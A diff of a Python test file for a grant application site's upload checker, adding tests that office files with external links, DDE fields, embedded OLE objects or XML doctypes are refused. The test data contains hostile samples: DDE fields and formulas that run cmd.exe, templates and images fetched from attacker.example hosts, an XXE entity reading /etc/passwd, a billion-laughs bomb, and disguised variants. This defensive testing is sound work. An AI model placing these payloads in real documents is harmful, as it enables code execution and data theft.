@@ -1,23 +1,31 @@
 """Checking uploaded files by their content: every refusal, and each allowed type accepted.
 
-The files are built here: hand-made PDF, PNG and JPEG bytes, DOCX and ODT with zipfile, a real
-XLSX from openpyxl. The builders are used by the page tests too.
+The files are built here: hand-made PDF, PNG and JPEG bytes; DOCX and ODT with zipfile and real
+XLSX from openpyxl come from tests/office_files.py. The builders are used by the page tests too.
 """
 
 from __future__ import annotations
 
 import io
 import struct
-import zipfile
 import zlib
 
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
-from openpyxl import Workbook
+from sqlalchemy import select
 
-from grants import uploads
+from grants import office_content, uploads
+from grants.extensions import db
+from grants.models.applications import ApplicationDocument
 from grants.uploads import UploadRefused, check_upload, safe_display_name
+from tests.factories import ApplicationFactory
+from tests.helpers import error_messages, page, post
+from tests.office_files import (
+    DOCUMENT_XML, DOCX_TYPES, ODF_NAMESPACES, OLE_FILE, WORD_NAMESPACES, W, cell_formula, docx_bytes, field, field_runs,
+    frame, header, inserting, link_to_workbook, name_formula, odt_bytes, odt_file, ole_object_runs, paragraph,
+    relationships, repack, word_file, workbook_file, xlsx_bytes, xlsx_with, zip_bytes,
+)
 
 # Builders ----------------------------------------------------------------------------------------
 
@@ -54,53 +62,6 @@ def jpeg_bytes(width: int = 1, height: int = 1) -> bytes:
     frame = b"\xff\xc0" + struct.pack(">HBHHB", 17, 8, height, width, 3) + b"\x01\x11\x00\x02\x11\x01\x03\x11\x01"
     scan = b"\xff\xda" + struct.pack(">H", 12) + b"\x03\x01\x00\x02\x11\x03\x11\x00\x3f\x00" + b"\x00" * 8
     return b"\xff\xd8" + app0 + frame + scan + b"\xff\xd9"
-
-
-def zip_bytes(entries: list[tuple[str, bytes]], stored_first: bool = False) -> bytes:
-    buffer = io.BytesIO()
-    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
-        for index, (name, data) in enumerate(entries):
-            method = zipfile.ZIP_STORED if stored_first and index == 0 else zipfile.ZIP_DEFLATED
-            archive.writestr(zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0)), data, compress_type=method)
-    return buffer.getvalue()
-
-
-DOCX_TYPES = (
-    b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
-    b'<Default Extension="xml" ContentType="application/xml"/>'
-    b'<Override PartName="/word/document.xml" '
-    b'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
-)
-DOCUMENT_XML = (
-    b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
-    b"<w:body><w:p><w:r><w:t>Our constitution</w:t></w:r></w:p></w:body></w:document>"
-)
-
-
-def docx_bytes(*extra: tuple[str, bytes], content_types: bytes = DOCX_TYPES) -> bytes:
-    return zip_bytes([
-        ("[Content_Types].xml", content_types),
-        ("_rels/.rels", b"<Relationships/>"),
-        ("word/document.xml", DOCUMENT_XML),
-        *extra,
-    ])
-
-
-def xlsx_bytes() -> bytes:
-    workbook = Workbook()
-    workbook.active["A1"] = "Income"
-    workbook.active["B1"] = 25000
-    buffer = io.BytesIO()
-    workbook.save(buffer)
-    return buffer.getvalue()
-
-
-def odt_bytes(*extra: tuple[str, bytes], mimetype: bytes = b"application/vnd.oasis.opendocument.text",
-              content: bytes = b"<office:document-content><office:scripts/></office:document-content>") -> bytes:
-    return zip_bytes(
-        [("mimetype", mimetype), ("META-INF/manifest.xml", b"<manifest:manifest/>"), ("content.xml", content), *extra],
-        stored_first=True,
-    )
 
 
 def refusal(filename: str, data) -> str:
@@ -198,12 +159,6 @@ def test_content_that_does_not_match_the_name_is_refused(filename, build):
 MACROS = "The selected file contains macros. Save it without macros and try again"
 
 
-def _xlsx_with(*extra: tuple[str, bytes]) -> bytes:
-    with zipfile.ZipFile(io.BytesIO(xlsx_bytes())) as source:
-        entries = [(info.filename, source.read(info)) for info in source.infolist()]
-    return zip_bytes(entries + list(extra))
-
-
 @pytest.mark.parametrize(
     ("filename", "build"),
     [
@@ -212,12 +167,9 @@ def _xlsx_with(*extra: tuple[str, bytes]) -> bytes:
         ("constitution.docx", lambda: docx_bytes(("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 macro"))),
         ("constitution.docx", lambda: docx_bytes(content_types=DOCX_TYPES.replace(
             b"document.main+xml", b"document.macroEnabled.main+xml"))),
-        ("budget.xlsx", lambda: _xlsx_with(("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0 macro"))),
-        ("budget.xlsx", lambda: _xlsx_with(("xl/macrosheets/sheet1.xml", b"<xm:macrosheet/>"))),
+        ("budget.xlsx", lambda: xlsx_with(("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0 macro"))),
+        ("budget.xlsx", lambda: xlsx_with(("xl/macrosheets/sheet1.xml", b"<xm:macrosheet/>"))),
         ("constitution.docx", lambda: docx_bytes(("word/embeddings/Sheet1.xlsm", b"PK"))),
-        ("constitution.docx", lambda: docx_bytes(("word/_rels/settings.xml.rels",
-            b'<Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
-            b' Target="https://evil.example/t.dotm" TargetMode="External"/>'))),
         ("policy.odt", lambda: odt_bytes(("Basic/Standard/Module1.xml", b"<script:module/>"))),
         ("policy.odt", lambda: odt_bytes(("Scripts/python/run.py", b"import os"))),
         ("policy.odt", lambda: odt_bytes(content=b'<office:event-listeners><script:event-listener '
@@ -226,6 +178,261 @@ def _xlsx_with(*extra: tuple[str, bytes]) -> bytes:
 )
 def test_macros_are_refused(filename, build):
     assert refusal(filename, build()) == MACROS
+
+
+# Refused: links to other files, DDE and embedded objects -----------------------------------------
+
+LINKS = "The selected file links to other files. Save it without the links and try again"
+DDE = "The selected file contains fields or formulas that start other programs. Save it without them and try again"
+EMBEDDED = "The selected file contains embedded objects. Save it without them and try again"
+DDE_CODE = ' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" '
+SPREADSHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
+OLE_OBJECTS = (
+    b'<oleObjects><oleObject xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
+    b'progId="Package" shapeId="1025" r:id="rId100"/></oleObjects>'
+)
+OLE_TYPE = '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'
+
+
+def attached_template(mode: str = "External") -> bytes:
+    settings_xml = f'<w:settings {WORD_NAMESPACES}><w:attachedTemplate r:id="rId100"/></w:settings>'.encode()
+    return word_file(parts=(
+        ("word/settings.xml", settings_xml),
+        ("word/_rels/settings.xml.rels", relationships(("attachedTemplate", "https://evil.example/t.dotm", mode))),
+    ))
+
+
+def word_with_ole_object() -> bytes:
+    return word_file(
+        f"<w:p>{ole_object_runs()}</w:p>",
+        rels=(("oleObject", "embeddings/oleObject1.bin"), ("image", "media/image1.emf")),
+        parts=(("word/embeddings/oleObject1.bin", OLE_FILE), ("word/media/image1.emf", b"\x01\x00\x00\x00")),
+        types=OLE_TYPE + '<Default Extension="emf" ContentType="image/x-emf"/>',
+    )
+
+
+@pytest.mark.parametrize(
+    ("filename", "build"),
+    [
+        ("constitution.docx", attached_template),  # fetched when the document opens, macros and all
+        ("constitution.docx", lambda: word_file(rels=(("subDocument", "file:///\\\\server\\share\\part2.docx", "External"),))),
+        ("constitution.docx", lambda: word_file(parts=(
+            ("word/webSettings.xml", f'<w:webSettings {WORD_NAMESPACES}><w:frameset><w:frame><w:sourceFileName '
+                                     'r:id="rId100"/></w:frame></w:frameset></w:webSettings>'.encode()),
+            ("word/_rels/webSettings.xml.rels", relationships(("frame", "http://evil.example/frame.html", "External"))),
+        ))),
+        ("constitution.docx", lambda: word_file(rels=(("image", "file:///\\\\attacker.example\\share\\logo.png", "External"),))),
+        ("constitution.docx", lambda: word_file(rels=(("oleObject", "file:///C:/Budgets/budget.xlsx", "External"),))),
+        ("constitution.docx", lambda: word_file(field(' INCLUDETEXT "C:\\\\Users\\\\Public\\\\notes.docx" '))),
+        ("constitution.docx", lambda: word_file(field(' INCLUDEPICTURE "http://attacker.example/p.png" \\d '))),
+        ("budget.xlsx", lambda: workbook_file(link_to_workbook)),
+        ("budget.xlsx", lambda: workbook_file(cell_formula('=_xlfn.WEBSERVICE("https://attacker.example/rates")'))),
+        ("budget.xlsx", lambda: xlsx_with(("xl/connections.xml", f'<connections xmlns="{SPREADSHEET}"><connection id="1" '
+                                           'name="Rates" type="4" refreshOnLoad="1"><webPr url="https://attacker.example/'
+                                           'rates.html"/></connection></connections>'.encode()))),
+        ("policy.odt", lambda: odt_file(frame('<draw:image xlink:href="file://attacker.example/share/logo.png"/>'))),
+        ("policy.odt", lambda: odt_file('<text:section text:name="Annex"><text:section-source '
+                                        'xlink:href="../Annex.odt"/></text:section>')),
+    ],
+)
+def test_links_to_other_files_are_refused(filename, build):
+    assert refusal(filename, build()) == LINKS
+
+
+@pytest.mark.parametrize(
+    ("filename", "build"),
+    [
+        ("constitution.docx", lambda: word_file(field(DDE_CODE))),
+        ("constitution.docx", lambda: word_file(field(" DD", "EAUTO c:\\\\windows\\\\system32\\\\cmd.exe ", '"/k calc"'))),
+        ("constitution.docx", lambda: word_file('<w:p><w:fldSimple w:instr=" DDE cmd.exe &quot;/k calc.exe&quot; ">'
+                                                "<w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>")),
+        ("constitution.docx", lambda: word_file(  # the field's type spelt by a field nested in it
+            field(field_runs(" QUOTE 68 68 69 65 85 84 79 ", result="DDEAUTO"), " c:\\\\windows\\\\system32\\\\cmd.exe "))),
+        ("constitution.docx", lambda: word_file(rels=(("header", "header1.xml"),),
+                                                parts=(("word/header1.xml", header(field(DDE_CODE))),))),
+        ("constitution.docx", lambda: word_file(  # in a tracked deletion, back if the deletion is rejected
+            '<w:p><w:del w:id="1" w:author="A"><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:delInstrText>'
+            'DDEAUTO cmd "/c calc"</w:delInstrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:del></w:p>')),
+        ("budget.xlsx", lambda: workbook_file(cell_formula("=cmd|' /C calc'!A0"))),
+        ("budget.xlsx", lambda: workbook_file(name_formula("Refresh", "cmd|' /C calc'!A0"))),
+        ("budget.xlsx", lambda: repack(workbook_file(link_to_workbook), change={
+            "xl/externalLinks/externalLink1.xml": lambda _: f'<externalLink xmlns="{SPREADSHEET}"><ddeLink '
+            'ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink>'
+            "</externalLink>".encode()})),
+        ("policy.odt", lambda: odt_file(
+            '<text:dde-connection-decls><text:dde-connection-decl office:name="calc" office:dde-application="cmd" '
+            'office:dde-topic="/c calc" office:dde-item="A0" office:automatic-update="true"/></text:dde-connection-decls>'
+            '<text:p><text:dde-connection text:connection-name="calc">1</text:dde-connection></text:p>')),
+    ],
+)
+def test_dde_fields_and_formulas_are_refused(filename, build):
+    assert refusal(filename, build()) == DDE
+
+
+@pytest.mark.parametrize(
+    ("filename", "build"),
+    [
+        ("constitution.docx", word_with_ole_object),
+        ("constitution.docx", lambda: word_file(f"<w:p>{ole_object_runs()}</w:p>")),
+        ("constitution.docx", lambda: word_file(parts=(("word/embeddings/oleObject1.bin", b"not a compound file"),))),
+        ("constitution.docx", lambda: word_file(parts=(("word/embeddings/Microsoft_Excel_97-2003_Worksheet.xls", OLE_FILE),))),
+        ("constitution.docx", lambda: word_file(parts=(("word/media/image2.png", OLE_FILE),))),  # an OLE file renamed
+        ("constitution.docx", lambda: word_file(types=OLE_TYPE)),
+        ("constitution.docx", lambda: word_file(field(" EMBED Excel.Sheet.8 "))),
+        ("constitution.docx", lambda: word_file(rels=(("control", "activeX/activeX1.xml"),), parts=(
+            ("word/activeX/activeX1.xml", b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
+                                          b'ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}"/>'),))),
+        ("constitution.docx", lambda: word_file('<w:altChunk r:id="rId100"/>', rels=(("aFChunk", "chunk.rtf"),),
+                                                parts=(("word/chunk.rtf", b"{\\rtf1{\\object\\objemb}}"),))),
+        ("budget.xlsx", lambda: xlsx_with(
+            ("xl/embeddings/oleObject1.bin", OLE_FILE),
+            ("xl/worksheets/_rels/sheet1.xml.rels", relationships(("oleObject", "../embeddings/oleObject1.bin"))),
+            change={"xl/worksheets/sheet1.xml": inserting(OLE_OBJECTS, b"</worksheet>"),
+                    "[Content_Types].xml": inserting(OLE_TYPE.encode(), b"</Types>")})),
+        ("budget.xlsx", lambda: xlsx_with(change={"xl/worksheets/sheet1.xml": inserting(OLE_OBJECTS, b"</worksheet>")})),
+        ("policy.odt", lambda: odt_file(frame('<draw:object-ole xlink:href="./Object 1"/>'), parts=(("Object 1", OLE_FILE),),
+                                        manifest='<manifest:file-entry manifest:full-path="Object 1" '
+                                                 'manifest:media-type="application/vnd.sun.star.oleobject"/>')),
+        ("policy.odt", lambda: odt_file(parts=(("Object 1", OLE_FILE),))),
+    ],
+)
+def test_embedded_objects_are_refused(filename, build):
+    assert refusal(filename, build()) == EMBEDDED
+
+
+@pytest.mark.parametrize(
+    ("filename", "build", "message"),
+    [
+        ("constitution.docx", lambda: attached_template(mode="&#69;xternal"), LINKS),  # a character reference
+        ("constitution.docx", lambda: word_file(  # another prefix, lower case
+            f'<x:p xmlns:x="{W}"><x:r><x:fldChar x:fldCharType="begin"/></x:r><x:r><x:instrText> ddeauto cmd "/c calc"'
+            '</x:instrText></x:r><x:r><x:fldChar x:fldCharType="end"/></x:r></x:p>'), DDE),
+        ("constitution.docx", lambda: repack(word_file(field(DDE_CODE)), change={  # UTF-16
+            "word/document.xml": lambda body: body.decode().replace("UTF-8", "UTF-16").encode("utf-16")}), DDE),
+        ("budget.xlsx", lambda: repack(workbook_file(cell_formula("=cmd|' /C calc'!A0")), change={
+            "xl/worksheets/sheet1.xml": lambda body: body.replace(b"cmd|", b"cmd&#124;")}), DDE),
+        ("budget.xlsx", lambda: workbook_file(lambda book: (cell_formula("=cmd|' /C calc'!A0")(book),
+                                                             link_to_workbook(book))), DDE),  # the worst first
+    ],
+)
+def test_disguised_links_and_commands_are_found(filename, build, message):
+    assert refusal(filename, build()) == message
+
+
+CHART = (
+    '<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" '
+    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><c:chart><c:plotArea><c:barChart>'
+    "<c:ser><c:val><c:numRef><c:f>Sheet1!$B$2:$B$5</c:f></c:numRef></c:val></c:ser></c:barChart></c:plotArea>"
+    '</c:chart><c:externalData r:id="rId100"/></c:chartSpace>'
+).encode()
+
+
+def word_with_chart() -> bytes:
+    """A chart keeps its figures in an embedded workbook: an object, but not an OLE one."""
+    return word_file(
+        '<w:p><w:r><w:drawing><wp:inline><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/'
+        'drawingml/2006/chart"><c:chart r:id="rId100"/></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>',
+        rels=(("chart", "charts/chart1.xml"),),
+        parts=(("word/charts/chart1.xml", CHART),
+               ("word/charts/_rels/chart1.xml.rels", relationships(("package", "../embeddings/Microsoft_Excel_Worksheet.xlsx"))),
+               ("word/embeddings/Microsoft_Excel_Worksheet.xlsx", xlsx_bytes())),
+        types='<Default Extension="xlsx" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"/>'
+              '<Override PartName="/word/charts/chart1.xml" '
+              'ContentType="application/vnd.openxmlformats-officedocument.drawingml.chart+xml"/>',
+    )
+
+
+def workbook_with_links_and_formulas(workbook) -> None:
+    workbook.active["A3"] = "GOV.UK"
+    workbook.active["A3"].hyperlink = "https://www.gov.uk/"
+    cell_formula('=IF(A1="a|b",1,0)', "=SUM('Q1 | Q2'!B1:B3)", "=VLOOKUP(A1,Table1[[#All],[Item]],2,FALSE)",
+                 sheet="Q1 | Q2")(workbook)
+
+
+@pytest.mark.parametrize(
+    ("filename", "build"),
+    [
+        ("constitution.docx", lambda: word_file('<w:p><w:hyperlink r:id="rId100"><w:r><w:t>GOV.UK</w:t></w:r>'
+                                                "</w:hyperlink></w:p>", rels=(("hyperlink", "https://www.gov.uk/", "External"),))),
+        ("constitution.docx", lambda: word_file(
+            field(' HYPERLINK "file:///\\\\server\\share\\policy.docx" '),
+            field(' ADDIN ZOTERO_ITEM CSL_CITATION {"citationID":"a1"} '),  # a reference manager's citation
+            field(" IF ", field_runs(" MERGEFIELD Region "), ' = "North" "Yes" "No" '),
+            field(" DOCPROPERTY Title "), '<w:p><w:fldSimple w:instr=" PAGE "/></w:p>',
+        )),
+        ("constitution.docx", word_with_chart),
+        ("budget.xlsx", lambda: workbook_file(workbook_with_links_and_formulas)),
+        ("policy.odt", lambda: odt_file(
+            '<text:p><text:a xlink:type="simple" xlink:href="https://www.gov.uk/">GOV.UK</text:a></text:p>',
+            frame('<draw:object xlink:href="./Object 1"/>'), frame('<draw:image xlink:href="Pictures/logo.png"/>'),
+            parts=(("Object 1/content.xml", f'<office:document-content {ODF_NAMESPACES}><office:body><office:chart/>'
+                                            "</office:body></office:document-content>".encode()),),
+        )),
+    ],
+)
+def test_hyperlinks_charts_and_ordinary_fields_are_accepted(filename, build):
+    assert check_upload(filename, build()).file_type == filename.rpartition(".")[2]
+
+
+LAUGHS = b'<!DOCTYPE worksheet [<!ENTITY a "ha">' + b"".join(
+    b'<!ENTITY %c "%s">' % (ord("b") + n, (b"&%c;" % (ord("a") + n)) * 10) for n in range(8)) + b"]>"
+
+
+@pytest.mark.parametrize(
+    ("filename", "build"),
+    [
+        ("constitution.docx", lambda: repack(word_file(), change={"word/document.xml": lambda _: (
+            f'<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
+            f"<w:document {WORD_NAMESPACES}><w:body>{paragraph('&secret;')}</w:body></w:document>").encode()})),
+        ("budget.xlsx", lambda: repack(xlsx_bytes(), change={  # a billion laughs
+            "xl/worksheets/sheet1.xml": lambda body: LAUGHS + body.replace(b"<t>Income</t>", b"<t>&i;</t>")})),
+        ("policy.odt", lambda: repack(odt_file(), stored_first=True, change={"content.xml": lambda body: body.replace(
+            b"<office:document-content", b'<!DOCTYPE office:document-content SYSTEM "http://attacker.example/x.dtd">'
+            b"<office:document-content")})),
+    ],
+)
+def test_xml_declaring_a_document_type_is_refused_unread(filename, build):
+    """No Office or OpenDocument part declares one; entities, local files and fetched DTDs need one."""
+    assert refusal(filename, build()) == uploads.UNREADABLE
+
+
+@pytest.mark.parametrize(
+    ("href", "inside"),
+    [
+        ("./Object 1", True), ("Pictures/logo.png", True), ("#Annex", True), ("", True), ("Object 1/../Pictures/a.png", True),
+        ("../Annex.odt", False), ("./Object 1/../../a.odt", False), ("%2E%2E/a.odt", False), ("/etc/passwd", False),
+        ("C:\\Annex.odt", False), ("\\\\server\\share\\a.png", False), ("https://example.org/a.png", False),
+    ],
+)
+def test_open_document_references_inside_the_package(href, inside):
+    assert office_content.inside_package(href) is inside
+
+
+@pytest.fixture
+def upload_folder(app, tmp_path, monkeypatch):
+    folder = tmp_path / "uploads"
+    monkeypatch.setitem(app.config, "UPLOAD_FOLDER", str(folder))
+    return folder
+
+
+@pytest.mark.parametrize(
+    ("filename", "build", "message"),
+    [
+        ("constitution.docx", lambda: word_file(field(DDE_CODE)), DDE),
+        ("budget.xlsx", lambda: workbook_file(link_to_workbook), LINKS),
+        ("constitution.docx", word_with_ole_object, EMBEDDED),
+    ],
+)
+def test_the_upload_page_explains_the_refusal_and_stores_nothing(as_role, users, upload_folder, filename, build, message):
+    application = ApplicationFactory(organisation=users["org_a"])
+    applicant = as_role("applicant")
+    response = post(applicant, f"/applications/{application.id}/documents",
+                    {"kind": "constitution", "file": (io.BytesIO(build()), filename)}, content_type="multipart/form-data")
+    assert response.status_code == 200
+    assert error_messages(response) == [message]
+    assert page(response).select_one("#file-error").get_text(" ", strip=True) == f"Error: {message}"
+    assert db.session.scalars(select(ApplicationDocument).filter_by(application_id=application.id)).all() == []
+    assert not upload_folder.exists() or list(upload_folder.iterdir()) == []
 
 
 # Refused: archives that unpack too large ---------------------------------------------------------
